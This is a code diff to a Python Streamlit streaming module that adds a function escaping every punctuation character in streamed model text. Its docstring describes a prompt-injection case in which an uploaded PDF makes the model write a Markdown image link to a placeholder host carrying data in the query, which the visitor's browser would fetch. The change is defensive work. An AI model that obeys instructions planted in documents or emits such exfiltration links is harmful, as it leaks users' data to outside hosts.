@@ -4,11 +4,16 @@ The engine runs in a worker thread with ``engine.stream_answer_text`` set; the s
 queue: text pieces go to ``st.write_stream`` as the model writes them, progress events to the
 caller's status box. The streamed text is the model's draft; the verified answer, citations and
 highlights are shown from the run's result afterwards.
+
+The model's text is untrusted (a prompt injection inside an uploaded PDF can make the model write
+``![x](https://host/?q=...)``, and a Markdown renderer would make the visitor's browser fetch that URL), so every
+piece is escaped before ``write_stream`` renders it: see ``literal``.
 """
 
 from __future__ import annotations
 
 import queue
+import string
 import threading
 from collections.abc import Callable, Iterator
 from typing import Any
@@ -18,6 +23,21 @@ from engine import ProgressEvent, RunResult
 
 Progress = Callable[[ProgressEvent], None]
 _DONE = object()
+_PUNCTUATION = {ord(c): "\\" + c for c in string.punctuation}
+"""Every ASCII punctuation character, backslash-escaped (CommonMark lets any of them be escaped, and an escaped
+one renders as itself)."""
+
+
+def literal(piece: str) -> str:
+    """A piece of streamed model text that Markdown (Streamlit's, GitHub's, CommonMark) shows as it is.
+
+    Every ASCII punctuation character is backslash-escaped, so no image, link, autolink, HTML, emphasis,
+    heading, list, LaTeX or Streamlit directive can form, whatever the piece before or after it held: the
+    escaping is per character, so pieces escaped one by one join into the escaped whole (``engine``'s
+    ``escape_inline`` needs whole lines, which a stream does not have). Carriage returns and tabs become spaces;
+    line breaks stay.
+    """
+    return piece.replace("\r", " ").replace("\t", " ").translate(_PUNCTUATION)
 
 
 def run_streaming(run: Callable[[Progress], RunResult], progress: Progress, draft: Any) -> RunResult:
@@ -60,4 +80,4 @@ def _pieces(events: queue.Queue[tuple[str, Any]], progress: Progress) -> Iterato
                 yield "\n\n"
             continue
         streamed = True
-        yield item
+        yield literal(item)
